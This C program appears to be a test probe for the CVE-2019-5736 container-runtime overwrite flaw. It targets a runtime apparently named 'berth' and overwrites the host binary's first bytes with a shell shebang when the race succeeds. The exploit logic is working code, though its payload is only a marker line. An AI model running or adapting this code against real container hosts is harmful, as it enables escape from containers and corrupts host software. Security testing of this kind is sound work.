/*
 * overwrite-runtime (CVE-2019-5736): opens /proc/<pid>/exe of every process that comes, keeps it open, and tries to open that for writing until
 * there is a file /enough. Writing to a program that runs is refused (ETXTBSY); the attack waits until it does not run any more.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { MAX_KEPT = 256 };

static unsigned long tries;
static unsigned kept;
static int fds[MAX_KEPT];

static void keep(const char *pid)
{
	char path[64];
	char target[512];
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	ssize_t length = readlink(path, target, sizeof target - 1);
	target[length < 0 ? 0 : length] = 0;
	/* This image's own programs may be written to; that is no escape. */
	if (length <= 0 || strstr(target, "berth") == NULL)
		return;
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (kept == MAX_KEPT)
		close(fd);
	else
		fds[kept++] = fd;
}

static void try_to_write(int fd)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	tries++;
	int writable = open(path, O_WRONLY | O_CLOEXEC);
	if (writable < 0)
		writable = open(path, O_RDWR | O_APPEND | O_CLOEXEC);
	if (writable < 0)
		return;
	if (write(writable, "#!/bin/sh\n", 10) == 10)
		printf("FOUND runtime overwritten\n");
	close(writable);
}

int main(void)
{
	printf("watching\n");
	fflush(stdout);
	while (access("/enough", F_OK) != 0) {
		DIR *listing = opendir("/proc");
		struct dirent *entry;
		while (listing != NULL && (entry = readdir(listing)) != NULL)
			if (entry->d_name[0] > '0' && entry->d_name[0] <= '9' && atoi(entry->d_name) != getpid())
				keep(entry->d_name);
		if (listing != NULL)
			closedir(listing);
		for (unsigned i = kept > 4 ? kept - 4 : 0; i < kept; i++)
			try_to_write(fds[i]);
	}
	for (unsigned i = 0; i < kept; i++)
		try_to_write(fds[i]);
	printf("tries %lu kept %u\n", tries, kept);
	return 0;
}
